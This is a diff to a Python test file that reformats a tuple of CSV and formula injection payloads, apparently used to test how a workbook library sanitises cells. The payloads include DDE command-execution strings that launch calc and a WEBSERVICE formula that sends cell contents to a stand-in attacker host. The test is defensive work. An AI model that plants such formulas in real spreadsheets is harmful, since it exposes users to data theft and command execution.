@@ -12,11 +12,30 @@ from tests.workbook.making import calculated, template
 
 # from the OWASP page on CSV injection, and what spreadsheet programs are known to run
 PAYLOADS = (
-    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", " =1+1", "'=1+1", '"=1+1"',
-    '=HYPERLINK("http://evil.example","click")', '=WEBSERVICE("http://evil.example/?"&A1)', "=cmd|' /C calc'!A0",
-    "=DDE(\"cmd\";\"/C calc\";\"x\")", "http://evil.example", "=A1\x00", "{=1+1}", "_x003D_1+1", "-12.50", "+49 170",
-    "<f>1+1</f>", "]]><f>1+1</f>",
-)  # fmt: skip
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    " =1+1",
+    "'=1+1",
+    '"=1+1"',
+    '=HYPERLINK("http://evil.example","click")',
+    '=WEBSERVICE("http://evil.example/?"&A1)',
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"x")',
+    "http://evil.example",
+    "=A1\x00",
+    "{=1+1}",
+    "_x003D_1+1",
+    "-12.50",
+    "+49 170",
+    "<f>1+1</f>",
+    "]]><f>1+1</f>",
+)
 _TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
 
 
